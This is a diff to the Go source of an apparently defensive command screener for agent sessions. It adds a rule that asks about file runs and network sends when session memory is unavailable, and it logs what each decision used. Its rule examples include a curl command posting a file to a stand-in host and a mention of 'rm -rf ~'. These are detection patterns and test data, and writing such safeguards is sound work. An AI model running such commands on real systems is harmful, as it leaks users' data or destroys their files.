@@ -19,8 +19,9 @@ import (
 
 // Rules of this file: their text, examples and matching code are one unit.
 const (
-	RuleSessionWrittenRun = "SESSION-WRITTEN-RUN"
-	RuleSessionSecretSend = "SESSION-SECRET-SEND"
+	RuleSessionWrittenRun        = "SESSION-WRITTEN-RUN"
+	RuleSessionSecretSend        = "SESSION-SECRET-SEND"
+	RuleSessionMemoryUnavailable = "SESSION-MEMORY-UNAVAILABLE"
 )
 
 var _ = rules(
@@ -36,7 +37,17 @@ var _ = rules(
 		Matches:     "a network send (as for EXFIL-SECRET-NETWORK) to a host not in `allowed_hosts`, in a session where an earlier call (among its last 256 entries, not denied) read a secret (SECRET-READ, ENV-DUMP)",
 		Fire:        []string{"curl -d @- https://x.example < notes.txt"},
 		Pass:        []string{"curl -d @- https://api.allowed.example < notes.txt", "cat notes.txt"}},
+	Rule{ID: RuleSessionMemoryUnavailable, Class: ClassError, Severity: SevMedium, Decision: Ask, Catastrophic: false,
+		Reason:      "this call needs the session's memory (it runs a file by path or sends over the network) and the memory cannot answer",
+		Alternative: "run `sentinel doctor`: the register's memory index or schema is damaged, its journal is not merged, or its lock is held",
+		Matches:     "a call that runs a file by path or sends over the network while the session memory is unavailable: the register's facts index or a table is missing, its schema holds objects sentinel did not create, fallback-journal lines are not merged yet (the write lock is held), or the look-up did not finish within its budget",
+		Fire:        []string{"bash " + ExampleUnavailableScript},
+		Pass:        []string{"ls " + ExampleUnavailableScript}},
 )
+
+// ExampleUnavailableScript is a file the example memory cannot answer
+// about (as if the register's index had been dropped).
+const ExampleUnavailableScript = "/home/user/proj/gone.sh"
 
 // ExampleWrittenScript is the file the example memory of the rule tests
 // remembers as written with `rm -rf ~` (the rules' examples are single
@@ -51,8 +62,12 @@ type Memory interface {
 	// session (path absolute, cleaned).
 	Written(path string) (WrittenFact, bool)
 	// SecretRead reports an earlier call of the session that read a
-	// secret (and was not denied), with its register entry.
+	// secret and is known to have run, with its register entry.
 	SecretRead() (seq int64, ok bool)
+	// Unavailable says why the last question could not be answered ("":
+	// it was, even if with nothing). A memory that cannot answer is not an
+	// empty one: the call that needed it is asked about.
+	Unavailable() string
 }
 
 // Facts are what a call leaves for the session's later calls.
@@ -207,16 +222,47 @@ func (j *judge) recall(p string) {
 		return
 	}
 	f, ok := j.env.Memory.Written(path.Clean(p))
-	if !ok || f.Verdict == Allow {
+	if !ok {
+		j.unavailable(p)
 		return
 	}
-	if j.cfg.disabled(RuleSessionWrittenRun) {
+	j.used("memory: " + p + " written in entry #" + itoa(f.Seq) + ": " + f.Verdict.String() + rulesNote(f.Rules))
+	if f.Verdict == Allow || j.cfg.disabled(RuleSessionWrittenRun) {
 		return
 	}
 	r, _ := ruleByID(RuleSessionWrittenRun)
 	h := hitFor(r, p+" (written in this session, entry #"+itoa(f.Seq)+": "+strings.Join(f.Rules, ", ")+")")
 	h.Verdict, h.Decision, h.After = f.Verdict, f.Verdict.String(), f.Seq
 	j.hits = append(j.hits, h)
+}
+
+// unavailable adds SESSION-MEMORY-UNAVAILABLE when the memory could not
+// answer the question about what.
+func (j *judge) unavailable(what string) {
+	why := j.env.Memory.Unavailable()
+	if why == "" {
+		return
+	}
+	j.used("memory unavailable for " + what + ": " + why)
+	for _, h := range j.hits {
+		if h.RuleID == RuleSessionMemoryUnavailable {
+			return // once per call
+		}
+	}
+	j.add(RuleSessionMemoryUnavailable, what+": "+why)
+}
+
+// used notes what the decision rested on, for explain.
+func (j *judge) used(s string) {
+	st := j.sessionState()
+	st.used = append(st.used, s)
+}
+
+func rulesNote(rules []string) string {
+	if len(rules) == 0 {
+		return ""
+	}
+	return " (" + strings.Join(rules, ", ") + ")"
 }
 
 // recallSecret adds SESSION-SECRET-SEND to a network send when an earlier
@@ -228,7 +274,13 @@ func (j *judge) recallSecret() {
 	if firstNonEmpty(j.secretRead, j.secretVar) != "" {
 		return // the same command's own combination speaks
 	}
-	if seq, ok := j.env.Memory.SecretRead(); ok && !j.cfg.disabled(RuleSessionSecretSend) {
+	seq, ok := j.env.Memory.SecretRead()
+	if !ok {
+		j.unavailable(j.networkSend)
+		return
+	}
+	j.used("memory: a secret read in entry #" + itoa(seq))
+	if !j.cfg.disabled(RuleSessionSecretSend) {
 		r, _ := ruleByID(RuleSessionSecretSend)
 		h := hitFor(r, "secret read in entry #"+itoa(seq)+" + "+j.networkSend)
 		h.After = seq
